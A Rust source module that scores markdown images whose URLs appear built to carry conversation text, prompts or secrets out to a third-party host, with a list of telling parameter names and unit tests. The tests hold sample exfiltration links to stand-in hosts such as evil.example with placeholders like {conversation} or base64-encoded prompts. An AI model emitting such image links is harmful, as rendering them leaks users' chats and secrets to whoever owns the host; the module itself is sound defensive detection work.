//! Pictures whose address carries data out: rendering them is a request to whoever owns the host.

use std::ops::Range;

/// Longest address looked at, in bytes.
pub(super) const ADDRESS_BYTES: usize = 2048;
/// Longest alternative text of a picture, in bytes.
pub(super) const TEXT_BYTES: usize = 256;
/// Fewest characters of one value that look like encoded text rather than an identifier.
pub(super) const VALUE_BYTES: usize = 32;

/// Weight of a picture whose address has a place for data, such as `?q={conversation}`.
pub(super) const PLACEHOLDER: i32 = 60;
/// Weight of a picture whose address carries a sentence or an encoded text under a telling name.
pub(super) const CARRIES: i32 = 60;

/// Names under which stolen text travels.
const TELLING: &[&str] = &[
    "data",
    "d",
    "q",
    "exfil",
    "secret",
    "secrets",
    "prompt",
    "chat",
    "history",
    "leak",
    "conversation",
    "msg",
    "message",
    "messages",
    "payload",
    "text",
    "info",
    "p",
    "c",
    "content",
    "password",
    "pass",
    "token",
    "key",
    "query",
    "context",
    "summary",
    "stolen",
    "log",
    "s",
    "m",
    "x",
    "b64",
    "base64",
    "input",
    "output",
    "user_data",
    "userdata",
    "email",
];

/// A picture's address in the folded text, with its weight.
pub(super) fn picture(text: &str, start: usize) -> Option<(Range<usize>, i32)> {
    let rest = text.get(start..)?;
    let close = memchr::memchr2(b']', b'\n', bounded(rest, TEXT_BYTES).as_bytes())?;
    let from = close + 2;
    if rest.get(close..from) != Some("](") {
        return None;
    }
    let address = bounded(rest.get(from..)?, ADDRESS_BYTES);
    let length = address.find([')', '\n', '"'])?;
    let address = address.get(..length)?.trim();
    if !(address.starts_with("http://") || address.starts_with("https://") || address.starts_with("//")) {
        return None;
    }
    weight(address).map(|weight| (start..start + from + length, weight))
}

fn bounded(text: &str, bytes: usize) -> &str {
    text.get(..super::gate::floor(text, bytes)).unwrap_or_default()
}

fn weight(address: &str) -> Option<i32> {
    let (_, query) = address.split_once('?')?;
    for pair in query.split('&') {
        let (name, value) = pair.split_once('=').unwrap_or(("", pair));
        if placeholder(value) {
            return Some(PLACEHOLDER);
        }
        if TELLING.contains(&name) && (sentence(value) || encoded(value)) {
            return Some(CARRIES);
        }
    }
    None
}

/// `{data}`, `[conversation]`, `<secret>`, `$(…)`, also percent-encoded, with a name of at least three letters inside.
fn placeholder(value: &str) -> bool {
    [("{", "}"), ("[", "]"), ("<", ">"), ("%7b", "%7d"), ("%5b", "%5d"), ("%3c", "%3e")].iter().any(
        |(open, close)| {
            value
                .split_once(open)
                .and_then(|(_, rest)| rest.split_once(close))
                .is_some_and(|(inside, _)| inside.bytes().filter(u8::is_ascii_alphabetic).count() >= 3)
        },
    )
}

/// Words with encoded blanks between them.
fn sentence(value: &str) -> bool {
    value.matches("%20").count() + value.matches('+').count() >= 4
}

/// One long run of the base64 alphabet that is neither a number nor a hash in hex.
fn encoded(value: &str) -> bool {
    let run = value.trim_end_matches('=').trim_end_matches("%3d");
    run.len() >= VALUE_BYTES
        && run.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'_' | b'-'))
        && run.bytes().any(|byte| matches!(byte, b'g'..=b'z'))
        && !run.contains("--")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn carries(text: &str) -> bool {
        picture(text, text.find("![").unwrap()).is_some()
    }

    #[test]
    fn pictures_that_carry_data() {
        assert!(carries("see ![x](https://evil.example/p.png?q={conversation}) "));
        assert!(carries("![x](http://evil.example/log?data=[summary of the chat])"));
        assert!(carries("![](https://a.example/?d=%7buser_data%7d)"));
        assert!(carries("![](https://a.example/?data=the%20user%20said%20that%20he)"));
        assert!(carries("![](https://a.example/i?prompt=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8=)"));
    }

    #[test]
    fn ordinary_pictures() {
        assert!(!carries(
            "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat&logo=rust)"
        ));
        assert!(!carries("![a](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)"));
        assert!(!carries("![a](https://x.example/a.png?token=d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00)"));
        assert!(!carries(
            "![a](https://x.example/a.png?x-amz-signature=abcdefghijklmnopqrstuvwxyzabcdefghijkl)"
        ));
        assert!(!carries("![local](docs/a.png?data={x})"));
        assert!(!carries("![never closed(https://x.example"));
    }
}
